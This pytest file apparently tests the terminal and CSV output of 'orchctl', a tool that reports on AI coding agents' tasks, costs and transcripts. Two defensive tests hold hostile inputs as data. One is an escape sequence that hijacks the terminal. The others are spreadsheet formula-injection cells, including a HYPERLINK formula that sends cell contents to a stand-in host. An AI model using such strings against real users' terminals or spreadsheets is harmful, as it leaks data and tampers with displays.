"""
What the commands show, for fixed values, at a width of 100 and without colour.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from rich.console import Console, RenderableType

from orchctl.render.application import application
from orchctl.render.cost import comma_separated
from orchctl.render.cost import table as costs_table
from orchctl.render.day import day
from orchctl.render.fact import about, fact
from orchctl.render.live import changes
from orchctl.render.question import questions
from orchctl.render.screen import Screen
from orchctl.render.submission import submission
from orchctl.render.task import task as detailed
from orchctl.render.transcript import Transcript, main_argument
from orchestrd.domain.model import Usage
from orchestrd.protocol import api
from orchestrd.protocol import messages as m

DAY = "2026-11-22"
NOW = datetime(2026, 11, 22, 9, 40, tzinfo=UTC).timestamp()
ASKED = api.Question(
    id=f"{DAY}/task-003#1",
    task=f"{DAY}/task-003",
    asked_at="2026-11-22T09:10:00.000Z",
    text="Which pattern should the list follow?\nTwo are in use.",
    options=[
        api.Option(key="A", label="Weddings", description="older"),
        api.Option(key="B", label="PAGINATION.md"),
    ],
    task_name="Add pagination",
)


@pytest.fixture(autouse=True)
def utc(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def shown(*things: RenderableType, width: int = 100) -> str:
    out = io.StringIO()
    Screen(Console(file=out, width=width, highlight=False, markup=False, emoji=False)).show(*things)
    return out.getvalue()


def make_task(id: str = "task-001", **over: Any) -> api.TaskStatus:  # noqa: A002 - the field's name
    values: dict[str, Any] = {"id": id, "day": DAY, "name": "Write the guide", "state": "queued", **over}
    return api.TaskStatus(**values)


def make_status(*tasks: api.TaskStatus, **over: Any) -> api.Status:
    daemon = api.DaemonStatus(pid=42, started_at="2026-11-22T08:00:00.000Z", version="0.1.0", agents=2)
    cost = api.CostStatus(spent_usd=12.4, reserved_usd=4, limit_usd=50, fraction=0.248)
    return api.Status(**{"day": DAY, "cost": cost, "tasks": list(tasks), "daemon": daemon, **over})


TASKS = (
    make_task(
        name="Create the module development guide for everyone",
        state="succeeded",
        attempts=1,
        run=f"{DAY}/task-001/1",
        cost_usd=1.2431,
        tokens=api.Tokens(input=12034, output=8120, cache_read=290122, cache_write=14002),
        tool_calls=41,
        started_at="2026-11-22T08:31:12.000Z",
        ended_at="2026-11-22T08:44:40.000Z",
        worked_seconds=724,
        files_changed=2,
        deliverables=[
            api.DeliverableStatus(text="docs/NEW.md", path="docs/NEW.md", status="found"),
            api.DeliverableStatus(text="Tests for pagination", path=None, status="unverified"),
        ],
        checks=[api.CheckStatus(name="npm test", status="passed")],
        model="claude-opus-5-5",
    ),
    make_task(
        "task-002", state="running", started_at="2026-11-22T09:31:12.000Z", worked_seconds=190, activity="Edit a.ts"
    ),
    make_task("task-003", name="Add pagination", state="waiting", question=ASKED.id, why="asks: Which"),
    make_task(
        "task-004",
        state="failed",
        outcome="timed_out",
        why="over 1 h of work",
        violations=1,
        started_at="2026-11-22T09:00:00.000Z",
    ),
    make_task("task-005", state="blocked", why="needs task-004, which failed"),
)

DAY_TEXT = """\
2026-11-22  5 tasks: 1 succeeded, 1 failed, 1 running, 1 waiting, 1 blocked

TASK      STATE        NAME                    TIME   COST  TOKENS
task-001  ✓ succeeded  Create the module d…  12m04s  $1.24    324k  2 files, 1/2 deliverables, 1/1 …
task-002  ▶ running    Write the guide        3m10s  $0.00       0  Edit a.ts
task-003  ? waiting    Add pagination                               asks: Which pattern should the …
task-004  ✗ failed     Write the guide           0s  $0.00       0  1 violation  timed out: over 1 …
task-005  ◌ blocked    Write the guide                              needs task-004, which failed

Cost    ████░░░░░░░░░░░░░░░░  $12.40 of $50.00 (25%)  $4.00 reserved
Daemon  pid 42 · 2 agents · up 1h40m · 0.1.0
1 question waits for you: orchctl questions
"""


def test_a_day_at_a_glance() -> None:
    assert shown(day(make_status(*TASKS), {ASKED.id: ASKED}, width=100, now=NOW)) == DAY_TEXT


@pytest.mark.parametrize("width", [20, 40, 60, 80, 120, 200])
def test_a_day_fits_any_width(width: int) -> None:
    lines = shown(day(make_status(*TASKS), {ASKED.id: ASKED}, width=width, now=NOW), width=width).splitlines()
    assert all(len(line) <= width for line in lines)
    # A table line that was wrapped would be one more.
    assert len(lines) == DAY_TEXT.count("\n")


def test_a_day_without_unicode() -> None:
    text = shown(day(make_status(*TASKS), {}, width=100, ascii_only=True))
    assert "+ succeeded" in text
    assert "####................" in text


def test_a_day_that_does_not_fit_shows_what_goes_on_first() -> None:
    many = [make_task(f"old-{n}", state="succeeded") for n in range(20)]
    text = shown(day(make_status(*many, make_task("live", state="running")), {}, width=100, rows=5))
    assert "live" in text
    assert "… and 17 tasks: 17 succeeded" in text
    assert text.count("old-") == 3


def test_running_clocks_move_between_answers() -> None:
    assert "3m15s" in shown(day(make_status(TASKS[1]), {}, width=100, later=5.2))


def test_no_day_says_what_to_do() -> None:
    assert "orchctl submit" in shown(day(make_status(day=None), {}, width=100))


def test_limits_that_are_near_are_told_below_the_day() -> None:
    near = "79% of the day's limit of $10.00 is spent"
    lines = shown(day(make_status(make_task(), warnings=[near]), {}, width=80)).splitlines()
    assert lines[1] == near


def test_what_keeps_all_agents_is_told() -> None:
    told = "the usage window is used up, tried again at 17:42 (limit); have it tried now: orchctl retry --account"
    assert f"Account {told}" in " ".join(shown(day(make_status(make_task(), account=told), {}, width=100)).split())


def test_a_hold_is_shown() -> None:
    daemon = api.DaemonStatus(pid=1, started_at="", version="1", hold="not logged in")
    assert "nothing new starts: not logged in" in shown(day(make_status(daemon=daemon), {}, width=100))


TASK_TEXT = """\
2026-11-22/task-001  Create the module development guide for everyone
State   ✓ succeeded
Run     2026-11-22/task-001/1, 1 attempt
Model   claude-opus-5-5
Time    12m04s of work, 2026-11-22 08:31:12 to 2026-11-22 08:44:40
Cost    $1.24
Tokens  12,034 input · 8,120 output · 290,122 cache read · 14,002 cache write
Tools   41 calls
Work    2 files: orchctl diff task-001

Deliverables
  ✓ found       docs/NEW.md
  ? unverified  Tests for pagination

Checks
  ✓ passed  npm test
"""


def test_one_task_with_everything() -> None:
    assert shown(detailed(TASKS[0], None, None)) == TASK_TEXT


QUESTION_TEXT = """\
2026-11-22/task-003#1  Add pagination  asked 30m00s ago
  Which pattern should the list follow?
  Two are in use.
    A) Weddings  older
    B) PAGINATION.md
  orchctl answer 2026-11-22/task-003 --option A|B   or: orchctl answer 2026-11-22/task-003 "your own
  words"
"""


def test_questions() -> None:
    assert shown(questions([ASKED], everything=False, now=NOW)) == QUESTION_TEXT
    assert shown(questions([], everything=False, now=NOW)) == "No question waits for you.\n"
    noted = msgspec.structs.replace(ASKED, note="the answer file a-answer.md cannot be taken: it is a link")
    assert shown(questions([noted], everything=False, now=NOW)) == f"{QUESTION_TEXT}  {noted.note}\n"
    asks = make_task("task-003", state="waiting", question=ASKED.id, why="asks: Which")
    told = shown(day(make_status(asks, asks=[noted]), {ASKED.id: noted}, width=200))
    assert told.count(f"{noted.note}; asks: Which") == 1
    assert told.count(f"{noted.note}; Which") == 1


SUBMISSION_TEXT = """\
2026-11-22  dry run: nothing was started
New        a, b
Unchanged  c
Limit      $50.00 for the day
Note: look
"""


def test_a_submission_without_a_forecast_that_has_no_basis() -> None:
    done = api.Submitted(day=DAY, accepted=["a", "b"], unchanged=["c"], notes=["look"], limit_usd=50, dry_run=True)
    assert shown(submission(done)) == SUBMISSION_TEXT
    done.forecast = api.Forecast(usd_p10=1, usd_p50=2, usd_p90=4, basis_runs=9)
    assert "about $2.00, between $1.00 and $4.00 in 8 of 10 cases (from 9 runs)" in shown(submission(done))


def test_applying_nothing_says_so() -> None:
    assert shown(application(api.Applied(tasks=["d/t"]))) == "d/t: no changes to bring over.\n"


def test_changes_are_told_once_each() -> None:
    first = make_status(*TASKS[1:3])
    told = changes(None, first, {ASKED.id: ASKED})
    assert told == [
        "task-002 running",
        "task-003 waiting · 0s $0.00",
        "task-003 asks: Which pattern should the list follow? Two are in use.",
        "task-003   A) Weddings",
        "task-003   B) PAGINATION.md",
        'task-003   orchctl answer 2026-11-22/task-003 --option A|B   or: orchctl answer 2026-11-22/task-003 "your own words"',
    ]
    assert changes(first, first, {ASKED.id: ASKED}) == []


def test_changes_tell_ends_retries_violations_and_money() -> None:
    before = make_status(make_task("a", state="running", attempts=1), make_task("b", state="running", attempts=1))
    cost = api.CostStatus(spent_usd=40, limit_usd=50, fraction=0.8)
    after = make_status(
        make_task("a", state="running", attempts=2, violations=1),
        make_task("b", state="failed", attempts=1, worked_seconds=61, cost_usd=2, why="check failed: x"),
        cost=cost,
    )
    assert changes(before, after, {}) == [
        "a running · attempt 2",
        "a tried what is forbidden: orchctl events --task a",
        "b failed · 1m01s $2.00 · check failed: x",
        "cost $40.00 of $50.00 (80%)",
    ]


def test_a_window_beyond_which_is_paid_for_says_so() -> None:
    window = api.UsageWindow(kind="seven_day", status="rejected", at="", utilization=1.0)
    paid = msgspec.structs.replace(window, overage=True)
    text = shown(day(make_status(windows=[window, paid]), {}, width=100, now=NOW))
    assert "Window  seven day: 100% used\n" in text
    assert "Window  seven day: 100% used, paid overage in use\n" in text


def test_changes_tell_every_new_warning_once() -> None:
    def warned(*warnings: str, day: str = DAY) -> api.Status:
        return msgspec.structs.replace(make_status(), day=day, warnings=list(warnings))

    own, days = "a has spent 80% of its own limit of $1.00", "76% of the day's limit of $50.00 is spent"
    assert changes(warned(), warned(days, own), {}) == [days, own]
    later = [own.replace("80", "95"), days.replace("76", "90")]
    assert changes(warned(own, days), warned(*later), {}) == [], "only what is spent has changed"
    higher = own.replace("$1.00", "$6.00")
    assert changes(warned(own), warned(higher), {}) == [higher]
    reached = "the day's limit of $50.00 is used up ($50.01 spent)"
    assert changes(warned(days), warned(reached), {}) == [reached]
    assert changes(warned(reached), warned(reached.replace("50.01", "50.20")), {}) == []
    assert changes(warned(days), warned(days, day="2026-11-23"), {}) == [days]


def make_fact(type: str, **event: Any) -> str:  # noqa: A002 - the field's name
    record = api.EventRecord(seq=7, at="2026-11-22T09:31:12.000Z", type=type, event={"type": type, **event})
    return fact(record).plain


def test_facts_are_one_line_with_what_matters() -> None:
    run = f"{DAY}/task-001/1"
    assert make_fact("run.tool_called", run=run, call="c", tool="Bash", target="ls\n-l") == (
        "     7  2026-11-22 09:31:12  run.tool_called       2026-11-22/task-001/1  Bash · ls -l"
    )
    assert make_fact("run.spend_settled", run=run, source="result", spends=[{"cost": 5 * 10**9}], estimated=0).endswith(
        "result · $5.00 · estimated $0.00"
    )
    assert make_fact("run.exited", run=run, outcome="timed_out", files=[{}, {}]).endswith("timed out · 2 files")
    assert make_fact("later.invention", task="d/t", colour="blue").endswith("d/t  colour blue")


@pytest.mark.parametrize(
    ("event", "name"),
    [
        ({"question": "d/t#2", "run": "d/t/1"}, "d/t"),
        ({"run": "d/t/1", "task": "d/t"}, "d/t"),
        ({"day": "d"}, "d"),
        ({"pid": 1}, ""),
    ],
)
def test_what_a_fact_is_about(event: dict[str, Any], name: str) -> None:
    assert about(event) == name


TRANSCRIPT = """\

── turn 1 · opus · session s ──

I will look.

● Read  /a
● Bash  ls -l
  ⎿ Read: 1
    2
    3
    … 1 more line
  ⎿ denied: never

    sub step

● AskUserQuestion
  ? Which?
    A) One  first
    B) Two
! API 529: try 1 of 10 in 2s

── api error · 2 turns · 3s · $1.50 ──
  overloaded
"""


def test_a_transcript() -> None:
    result = m.Result(
        is_error=True, terminal_reason="api_error", subtype="success", num_turns=2, text="", errors=("overloaded",),
        stop_reason=None, total_cost_usd=9.0, models_since={"opus": m.ModelCost(usage=Usage(), cost_usd=1.5)},
        models_total={}, usage=Usage(), permission_denials=(), index=None, api_error_status=None, api_error=None,
        deferred_tool=None, origin=None, startup_failure_reason=None, duration_ms=3000, session="s",
    )  # fmt: skip
    ask = {"questions": [{"question": "Which?", "options": [{"label": "One", "description": "first"}, "Two"]}]}
    said: list[m.Message] = [
        m.Init(session="s", model="opus"),
        m.Text(message_id="m", text="I will look.\n"),
        m.Thinking(message_id="m"),
        m.ToolCall(id="1", name="Read", input={"limit": 3, "file_path": "/a"}),
        m.ToolCall(id="2", name="Bash", input={"description": "list", "command": "ls\n-l"}),
        m.ToolResult(id="1", is_error=False, text="1\n2\n3\n4"),
        m.ToolResult(id="2", is_error=True, text="never", denied=True),
        m.Text(message_id="n", text="sub step", subagent="1"),
        m.ToolCall(id="3", name="AskUserQuestion", input=ask),
        m.ApiRetry(attempt=1, max_retries=10, delay_ms=2000, status=529, error=""),
        m.StateChanged(state="idle"),
        result,
    ]
    transcript = Transcript()
    text = "".join(f"{line.plain}\n" for message in said for line in transcript.lines(message))
    assert text == TRANSCRIPT


def test_the_main_argument_of_a_call() -> None:
    assert main_argument({"command": "x\ny", "description": "d"}) == "x y"
    assert main_argument({"n": 1, "other": "o"}) == "o"
    assert main_argument({}) == ""


def test_escapes_of_an_agent_never_reach_the_terminal() -> None:
    evil = "\x1b]0;owned\x07\x1b[2J"
    task = make_task(evil, name=evil, state="failed", why=evil, activity=evil)
    question = api.Question(id="q", task="t", asked_at="", text=evil, options=[api.Option(key="A", label=evil)])
    text = shown(day(make_status(task), {}, width=100), questions([question], everything=True, now=None))
    assert "\x1b" not in text
    assert "\x07" not in text


class TestCosts:
    LINES = [
        api.CostLine(
            key="2026-11-21",
            usd=12.4,
            tokens=api.Tokens(input=1_200_000, output=31_000, cache_read=9_400_000, cache_write=210_000),
            runs=4,
            limit_usd=50.0,
        ),
        api.CostLine(key="2026-11-22", usd=0.00042, estimated_usd=0.00042, runs=1, unpriced=["x-1"], limit_usd=50.0),
    ]

    def found(self, **over: Any) -> api.Costs:
        total = api.CostLine(
            key="", usd=12.40042, estimated_usd=0.00042, drift_usd=-0.02, runs=5, unpriced=["x-1"],
        )  # fmt: skip
        values = {"by": "day", "first": "2026-11-21", "last": "2026-11-22", "lines": self.LINES, "total": total}
        return api.Costs(**{**values, "prices_of": "2026-11-20", **over})

    def test_by_day(self):
        assert shown(costs_table(self.found())) == (
            "day             cost      of  runs  input  output  cache read  cache write\n"
            "2026-11-21    $12.40  $50.00     4   1.2M   31.0k        9.4M         210k\n"
            "2026-11-22  $0.0004*  $50.00     1      0       0           0            0\n"
            "total        $12.40*             5      0       0           0            0\n"
            "\n"
            "* no price is known for x-1: counted at the dearest known one (config/prices.yaml)\n"
            "$0.0004 of it are our own readings of what is still at work.\n"
            "The agent CLI accounts for $0.02 less than we had read (prices of 2026-11-20); its figure counts.\n"
        )

    def test_one_sum_needs_no_total(self):
        line = api.CostLine(key="", usd=1.0, runs=1)
        assert shown(costs_table(self.found(by="module", lines=[line], total=line))) == (
            "module   cost  runs  input  output  cache read  cache write\n"
            "(none)  $1.00     1      0       0           0            0\n"
        )

    def test_nothing(self):
        none = api.CostLine(key="")
        assert shown(costs_table(self.found(lines=[], total=none, first=None))) == "Nothing was spent.\n"
        assert (
            shown(costs_table(self.found(lines=[], total=none))) == "Nothing was spent from 2026-11-21 to 2026-11-22.\n"
        )

    @pytest.mark.parametrize(
        ("key", "cell"),
        [
            ("a\rb", "a\rb"),
            ("a\nb", "a\nb"),
            ("a\r\nb", "a\r\nb"),
            ('x,"y', 'x,"y'),
            ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
            *((f"{sign}cmd", f"'{sign}cmd") for sign in "+-@\t\r"),
            ("a=b", "a=b"),
        ],
    )
    def test_csv_of_any_key(self, key, cell):
        """
        One row a sum, whoever reads it, and none that a spreadsheet would run.
        """
        out = io.StringIO(newline="")
        line = api.CostLine(key=key, usd=1.0, unpriced=["a model", "b;c", 'd"e', "=f"])
        comma_separated(self.found(lines=[line]), out)
        head, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
        assert dict(zip(head, row, strict=True))["day"] == cell
        assert next(csv.reader([row[-1]], delimiter=";")) == ["a model", "b;c", 'd"e', "=f"]
        assert row[-1].startswith("a")
        assert "\r" not in out.getvalue().replace(f'"{cell}"', ""), "only within quotes"

    def test_csv_of_a_model_that_is_called_like_a_formula(self):
        out = io.StringIO(newline="")
        comma_separated(self.found(lines=[api.CostLine(key="k", unpriced=["=f"])]), out)
        assert out.getvalue().endswith(",'=f\n")

    def test_csv(self):
        out = io.StringIO()
        comma_separated(self.found(), out)
        assert out.getvalue() == (
            "day,runs,usd,estimated_usd,drift_usd,input,output,cache_read,cache_write,limit_usd,unpriced\n"
            "2026-11-21,4,12.4,0,,1200000,31000,9400000,210000,50,\n"
            "2026-11-22,1,0.00042,0.00042,,0,0,0,0,50,x-1\n"
        )
